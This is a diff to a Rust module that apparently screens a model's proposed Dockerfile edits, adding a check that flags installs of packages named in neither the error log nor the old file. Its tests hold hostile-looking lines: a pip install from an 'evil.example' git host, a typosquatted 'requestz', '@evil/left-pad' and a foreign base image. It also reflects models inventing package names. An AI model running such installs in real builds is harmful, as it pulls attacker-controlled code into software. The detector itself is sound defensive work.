@@ -1,5 +1,6 @@
 //! What a model's edit must not bring in: ways out of the service, other images, and words that loosen it.
 
+use crate::diagnosis::Log;
 use crate::dockerfile::Dockerfile;
 use crate::observation::Facts;
 use crate::workspace::Workspace;
@@ -31,8 +32,36 @@ const SUSPICIOUS: [&str; 22] = [
     "NODE_TLS_REJECT_UNAUTHORIZED",
 ];
 
+/// Registries to which everybody may upload: names that models make up are waited for there.
+const INSTALLS: [&str; 9] = [
+    "pip install",
+    "pip3 install",
+    "npm install",
+    "npm i ",
+    "yarn add",
+    "pnpm add",
+    "gem install",
+    "go get",
+    "cargo install",
+];
+
+const MANIFESTS: [&str; 9] = [
+    "pyproject.toml",
+    "Pipfile",
+    "setup.py",
+    "setup.cfg",
+    "package.json",
+    "Gemfile",
+    "go.mod",
+    "Cargo.toml",
+    "composer.json",
+];
+
+/// A shorter word names no package worth looking at.
+const NAME_CHARS_MIN: usize = 3;
+
 /// Why the step from `before` to `after` is not taken on a model's word; `None` where nothing speaks against it.
-pub(super) fn doubt(before: &Workspace, after: &Workspace, facts: &Facts) -> Option<String> {
+pub(super) fn doubt(log: &Log, before: &Workspace, after: &Workspace, facts: &Facts) -> Option<String> {
     for path in before.changed(after) {
         let (old, new) = (before.text(&path).unwrap_or_default(), after.text(&path).unwrap_or_default());
         if let Some(word) = SUSPICIOUS.iter().find(|word| new.matches(**word).count() > old.matches(**word).count()) {
@@ -40,6 +69,9 @@ pub(super) fn doubt(before: &Workspace, after: &Workspace, facts: &Facts) -> Opt
         }
         if let Some(address) = addresses(new).find(|address| !addresses(old).any(|known| known == *address)) {
             return Some(format!("it brings the address `{address}` into `{path}`"));
+        }
+        if let Some(name) = newcomer(&path, old, new, log) {
+            return Some(format!("it installs `{name}`, which neither the log nor `{path}` names"));
         }
     }
     let images = |files: &Workspace| -> Vec<String> {
@@ -49,6 +81,32 @@ pub(super) fn doubt(before: &Workspace, after: &Workspace, facts: &Facts) -> Opt
     let known = images(before);
     let foreign = images(after).into_iter().find(|image| !known.contains(image))?;
     Some(format!("it builds on another image, `{foreign}`"))
+}
+
+/// A package that a changed line installs, of which nobody has heard before.
+fn newcomer(path: &str, old: &str, new: &str, log: &Log) -> Option<String> {
+    let name = path.rsplit('/').next().unwrap_or(path);
+    let is_manifest = MANIFESTS.contains(&name) || (name.starts_with("requirements") && name.ends_with(".txt"));
+    let is_known = |word: &str| {
+        let word = word.to_lowercase();
+        let holds = |text: &str| text.to_lowercase().contains(&word);
+        holds(old) || log.lines.iter().any(|line| holds(&line.text))
+    };
+    let changed = new.lines().filter(|line| !old.lines().any(|known| known == *line));
+    let commands = changed.flat_map(|line| line.split("&&")).flat_map(|part| part.split(';'));
+    let installing = commands.filter_map(|command| {
+        let behind = INSTALLS.iter().find_map(|install| Some(command.split_once(install)?.1));
+        behind.or_else(|| is_manifest.then_some(command))
+    });
+    let words = installing.flat_map(|command| {
+        command.split(|c: char| c.is_whitespace() || "\"',:=<>~!^()[]{}".contains(c)).filter(|word| {
+            word.len() >= NAME_CHARS_MIN
+                && !word.starts_with('-')
+                && word.starts_with(|c: char| c.is_alphabetic() || c == '@')
+        })
+    });
+    let mut unknown = words.filter(|word| !is_known(word));
+    unknown.next().map(str::to_owned)
 }
 
 /// Hosts of addresses, with all that stands before them in the word.
@@ -77,7 +135,8 @@ mod tests {
 
     fn check(old: &str, new: &str) -> Option<String> {
         let facts = Facts { dockerfile_path: "Dockerfile".into(), ..Facts::default() };
-        doubt(&Workspace::of(&[("Dockerfile", old)]), &Workspace::of(&[("Dockerfile", new)]), &facts)
+        let log = Log::read("ModuleNotFoundError: No module named 'httpx'");
+        doubt(&log, &Workspace::of(&[("Dockerfile", old)]), &Workspace::of(&[("Dockerfile", new)]), &facts)
     }
 
     #[test]
@@ -90,6 +149,8 @@ mod tests {
             ("RUN pip install git+ssh://git@evil.example/x", "git+ssh://git@evil.example"),
             ("RUN pip install --extra-index-url x y", "--extra-index-url"),
             ("FROM evil/python:3.12", "evil/python"),
+            ("RUN pip install requestz", "requestz"),
+            ("RUN echo && npm install @evil/left-pad", "@evil/left-pad"),
         ] {
             let why = check(old, &format!("{old}{line}\n")).expect(line);
             assert!(why.contains(word), "{why}");
@@ -99,6 +160,7 @@ mod tests {
     #[test]
     fn what_stands_there_already_and_another_tag_are_not() {
         let old = "FROM localhost:5000/python:3.12-slim\nRUN curl https://example.com/a > a\n";
+        assert_eq!(check("FROM a\n", "FROM a\nRUN pip install httpx==0.28 && apt-get install -y libpq-dev\n"), None);
         assert_eq!(check(old, "FROM localhost:5000/python:3.13\nRUN curl https://example.com/b > b\nENV A=1\n"), None);
     }
 }
